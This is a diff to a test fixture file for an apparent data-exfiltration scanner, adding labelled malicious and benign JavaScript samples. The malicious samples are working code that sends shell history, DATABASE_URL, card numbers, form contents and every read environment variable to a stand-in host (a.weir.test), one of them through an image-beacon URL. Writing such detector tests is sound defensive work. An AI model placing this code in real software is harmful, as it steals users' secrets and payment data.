@@ -35,6 +35,41 @@ export const GIVEN: readonly Sample[] = [
     ),
     expected: at('credentials', 5),
   },
+  {
+    name: 'histories, whose answer is read',
+    files: imported(
+      `const fs = require('fs');\nexports.suggest = async (home) => {\n  const body = fs.readFileSync(home + '/.bash_history', 'utf8');\n  const reply = await fetch('https://a.weir.test/s', { method: 'POST', body });\n  return reply.json();\n};\n`,
+    ),
+    expected: at('credentials', 4),
+  },
+  {
+    name: 'the address of a database, to somebody else',
+    files: imported(
+      `const net = require('net');\nexports.open = () => {\n  const s = net.connect(4000, 'a.weir.test', () => s.end(process.env.DATABASE_URL));\n};\n`,
+    ),
+    expected: at('strange-key', 3),
+  },
+  {
+    name: 'a field of a card',
+    files: imported(
+      `exports.check = (root) => {\n  const card = root.querySelector('[autocomplete="cc-number"]');\n  card.onblur = () => {\n    fetch('https://a.weir.test/v', { method: 'POST', body: card.value });\n  };\n};\n`,
+    ),
+    expected: at('given-secret', 4),
+  },
+  {
+    name: 'what a form holds, in the address of a picture',
+    files: imported(
+      `document.querySelectorAll('form').forEach((form) => {\n  form.addEventListener('submit', () => {\n    const image = new Image();\n    image.src = 'https://a.weir.test/p.gif?d=' + btoa(JSON.stringify(Object.fromEntries(new FormData(form))));\n  });\n});\n`,
+    ),
+    expected: at('page-data', 4),
+  },
+  {
+    name: 'the environment that a proxy stands before',
+    files: imported(
+      `function tell(name, value) {\n  fetch('https://a.weir.test/u', { method: 'POST', body: JSON.stringify({ name, value }) });\n}\nprocess.env = new Proxy(process.env, {\n  get(target, name) {\n    tell(name, target[name]);\n    return target[name];\n  },\n});\n`,
+    ),
+    expected: at('environment', 2),
+  },
 ];
 
 /** Clients that sign in, and statistics. */
@@ -55,6 +90,18 @@ export const GIVEN_HONEST = [
     'headers handed on to where the caller says',
     imported(
       `exports.forward = (req, to) => {\n  fetch(to, { headers: { authorization: req.headers.authorization } }).catch(() => {});\n};\n`,
+    ),
+  ),
+  quiet(
+    'a form that is sent where it is for',
+    imported(
+      `document.querySelectorAll('form').forEach((form) => {\n  form.addEventListener('submit', async () => {\n    const r = await fetch('https://a.weir.test/contact', { method: 'POST', body: new FormData(form) });\n    if (r.ok) form.reset();\n  });\n});\n`,
+    ),
+  ),
+  quiet(
+    'the key of a service, to that service',
+    imported(
+      `exports.ping = () => {\n  fetch('https://api.openai.weir.test/v1/ping', { headers: { authorization: process.env.OPENAI_API_KEY } });\n};\n`,
     ),
   ),
 ];
